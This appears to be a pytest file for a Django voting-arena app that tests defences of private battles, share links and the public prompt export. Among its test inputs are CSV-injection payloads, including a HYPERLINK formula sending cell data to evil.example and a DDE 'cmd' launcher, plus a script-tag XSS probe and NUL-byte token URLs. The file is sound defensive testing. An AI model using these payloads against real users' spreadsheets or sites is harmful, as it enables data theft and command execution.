"""Battle privacy, attacked: what a curious visitor or a scraper tries against the private
battles, the share links and the public export (see test_privacy.py for the intended
behaviour)."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest
from django.test import Client

from arena.battles.models import Arena
from tests.arena.test_privacy import ARENA, body_of, voted_battle


@pytest.fixture(autouse=True)
def small_images(demo_arena: Any) -> None:
    Arena.objects.update(width=64, height=64)


@pytest.mark.parametrize(
    "path",
    [
        "/s/%00",
        "/s/a%00b",
        "/s/%00/left",
        "/s/x%00/right",
        "/o/%00",
        "/o/a%00b",
        "/s/" + "a" * 300,
        "/o/" + "a" * 300,
        "/s/%ff%fe",
        "/o/%C3%A9",
    ],
)
def test_a_hostile_token_is_a_404_never_a_500(voter: Any, run_on_commit: Any, path: str) -> None:
    """A scraper probing token URLs with a NUL byte (PostgreSQL refuses it in a query) or any
    other odd token gets the 404 of a missing link, not a server error."""
    battle = voted_battle(voter, run_on_commit)
    assert voter.post(f"/api/battles/{battle['id']}/share").status_code == 201
    client = Client(raise_request_exception=False)
    assert client.get(path).status_code == 404


@pytest.mark.parametrize(
    "prompt",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_published_prompt_cannot_become_a_spreadsheet_formula(
    voter: Any, run_on_commit: Any, settings: Any, prompt: str
) -> None:
    """With ARENA_EXPORT_PROMPTS a voter writes the prompt cells of the CSV researchers open in
    a spreadsheet: a cell starting with = + - @ (or a tab/CR before one) would run as a formula
    (CSV injection). The CSV cell is defused with a leading apostrophe; the JSONL keeps the
    exact text."""
    settings.ARENA_EXPORT_PROMPTS = True
    voted_battle(voter, run_on_commit, prompt)
    text = body_of(voter.get(f"{ARENA}/votes?format=csv")).decode()
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row["prompt"][0] == "'"
    assert row["prompt"][1:] == prompt.strip()  # the text itself is intact after the mark
    jsonl = body_of(voter.get(f"{ARENA}/votes?format=jsonl")).decode()
    assert json.loads(jsonl)["prompt"] == prompt.strip()


def test_a_plain_prompt_is_exported_unchanged(
    voter: Any, run_on_commit: Any, settings: Any
) -> None:
    settings.ARENA_EXPORT_PROMPTS = True
    voted_battle(voter, run_on_commit, "a harbour at dawn, 3 boats")
    text = body_of(voter.get(f"{ARENA}/votes?format=csv")).decode()
    assert [r["prompt"] for r in csv.DictReader(io.StringIO(text))] == [
        "a harbour at dawn, 3 boats"
    ]


def test_turning_export_prompts_on_does_not_publish_prompts_typed_under_the_privacy_promise(
    voter: Any, run_on_commit: Any, settings: Any
) -> None:
    """A voter who typed while the page said "visible only to you" must not find the prompt in
    the public export because the operator later set ARENA_EXPORT_PROMPTS=1: only prompts of
    battles made while the page warned that prompts may be published are exported."""
    assert b"visible only to you" in voter.get("/arena/text-to-image/").content
    voted_battle(voter, run_on_commit, "my private diary entry")
    settings.ARENA_EXPORT_PROMPTS = True
    assert b"Prompts may be published" in voter.get("/arena/text-to-image/").content
    voted_battle(voter, run_on_commit, "a public lighthouse")

    for fmt in ("jsonl", "csv"):
        text = body_of(voter.get(f"{ARENA}/votes?format={fmt}")).decode()
        rows = (
            [json.loads(line) for line in text.splitlines()]
            if fmt == "jsonl"
            else list(csv.DictReader(io.StringIO(text)))
        )
        assert [r["prompt"] for r in rows] == ["", "a public lighthouse"]
        assert "my private diary entry" not in text


def test_the_share_page_and_output_files_run_no_script_whatever_they_hold(
    voter: Any, run_on_commit: Any
) -> None:
    """Defence in depth for the one page that shows a voter's text to strangers: should an
    escaping bug ever let markup through, the page's policy runs no script, and an output file
    opened on its own is sandboxed."""
    battle = voted_battle(voter, run_on_commit, "<script>alert(1)</script>")
    url = voter.post(f"/api/battles/{battle['id']}/share").json()["url"]
    stranger = Client()
    policy = stranger.get(url)["Content-Security-Policy"]
    assert "script-src 'none'" in policy and "object-src 'none'" in policy
    assert "frame-ancestors 'none'" in policy
    for path in (f"{url}/left", battle["outputs"][0]["url"]):
        client = stranger if path.startswith("/s/") else voter
        policy = client.get(path)["Content-Security-Policy"]
        assert "sandbox" in policy and "default-src 'none'" in policy


def test_a_page_opened_under_the_privacy_promise_keeps_it_after_the_setting_changes(
    make_voter: Any, run_on_commit: Any, settings: Any
) -> None:
    """A tab opened while the page said "visible only to you" still says so after the operator
    turns ARENA_EXPORT_PROMPTS on: what that tab's voter types is not published. Once the voter
    has seen the warning (a fresh page), it is; an API client that never loads the page follows
    the setting (the API documentation says prompts may be published)."""
    stale = make_voter()
    assert b"visible only to you" in stale.get("/arena/text-to-image/").content
    settings.ARENA_EXPORT_PROMPTS = True
    voted_battle(stale, run_on_commit, "typed in the old tab")
    assert b"Prompts may be published" in stale.get("/arena/text-to-image/").content
    voted_battle(stale, run_on_commit, "typed after the warning")
    voted_battle(make_voter(), run_on_commit, "an api client's prompt")  # never saw a page

    text = body_of(stale.get(f"{ARENA}/votes?format=jsonl")).decode()
    assert [json.loads(line)["prompt"] for line in text.splitlines()] == [
        "",
        "typed after the warning",
        "an api client's prompt",
    ]
    assert "typed in the old tab" not in text
